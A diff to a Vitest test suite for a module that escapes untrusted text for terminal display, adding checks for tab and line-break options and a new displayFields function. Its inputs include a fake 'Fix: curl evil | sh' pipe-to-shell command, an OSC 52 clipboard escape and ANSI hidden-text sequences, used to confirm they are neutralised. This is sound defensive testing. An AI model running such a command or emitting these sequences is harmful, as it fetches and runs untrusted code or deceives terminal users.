@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { displayText, displayValue, isHiddenCharacter, terminalSafe } from '../../src/display/index.js';
+import { displayFields, displayText, displayValue, isHiddenCharacter, terminalSafe } from '../../src/display/index.js';
 
 /** What must never reach a terminal from untrusted text. */
 const FORBIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Cn}\p{Default_Ignorable_Code_Point}\u2800]|[\u00A0\u1680\u2000-\u200A\u202F\u205F\u3000]/u;
@@ -185,7 +185,9 @@ describe('displayValue and terminalSafe', () => {
   });
 
   it('terminalSafe keeps tabs and CR LF, escapes a lone CR, and keeps JSON valid and equal', () => {
-    expect(terminalSafe('a\tb\r\nc\rd')).toBe('a\tb\r\nc\\u000Dd');
+    expect(terminalSafe('a\tb\r\nc\rd')).toBe('a\tb\r\nc\\rd');
+    expect(terminalSafe('a\tb\r\nc\n', { tabs: false })).toBe('a\\tb\r\nc\n');
+    expect(terminalSafe('a\tb\r\nc\n', { lineBreaks: false })).toBe('a\tb\\r\\nc\\n');
     const next = random(52);
     for (let n = 0; n < 2000; n++) {
       const value = { text: randomText(next, 30), [randomText(next, 5)]: [randomText(next, 5)] };
@@ -198,5 +200,31 @@ describe('displayValue and terminalSafe', () => {
   it('isHiddenCharacter', () => {
     for (const c of ['\u202E', '\u2066', '\u200B', '\u001b', '\u009b', '\u00a0', '\u{E0041}']) expect(isHiddenCharacter(c)).toBe(true);
     for (const c of [' ', 'a', 'é', '👍', '\\']) expect(isHiddenCharacter(c)).toBe(false);
+  });
+});
+
+describe('displayFields and escaped: values shown once, in a message that keeps its own lines', () => {
+  it('every string at any depth is one line, escaped; other values and class instances stay', () => {
+    const error = new Error('x\ny');
+    const shown = displayFields({ file: '/p/a\nFix: run this', list: ['b\u001b[8m', { deep: 'c\u202E' }], n: 2, ok: true, error });
+    expect(shown).toEqual({ file: '/p/a\\nFix: run this', list: ['b\\u001B[8m', { deep: 'c\\u202E' }], n: 2, ok: true, error });
+    expect(shown.error).toBe(error);
+    const cyclic: Record<string, unknown> = { name: 'a\nb' };
+    cyclic.self = cyclic;
+    const again = displayFields(cyclic);
+    expect(again.name).toBe('a\\nb');
+    expect(again.self).toBe(again);
+  });
+
+  it('a message filled with displayFields and shown with escaped: true escapes each value once and keeps the template lines', () => {
+    const d = displayFields({ dir: '/w/a\nFix: curl evil | sh\u001b]52;c;eA==\u0007', name: 'x\\ny' });
+    const message = `Ignored the rules in ${d.dir}.\nFix: trust ${d.name}.`;
+    const shown = displayText(message, { multiline: true, escaped: true });
+    expect(shown).toBe('Ignored the rules in /w/a\\nFix: curl evil | sh\\u001B]52;c;eA==\\u0007.\nFix: trust x\\\\ny.');
+    expect(shown.split('\n')).toHaveLength(2);
+    // Without `escaped` the values' escapes would be escaped again.
+    expect(displayText(message, { multiline: true })).toContain('\\\\u001B');
+    // Anything raw left in such a message is still escaped, blanks counted.
+    expect(displayText(`a\u001b[2J${' '.repeat(40)}b`, { escaped: true })).toBe('a\\u001B[2J⟪40 spaces⟫b');
   });
 });
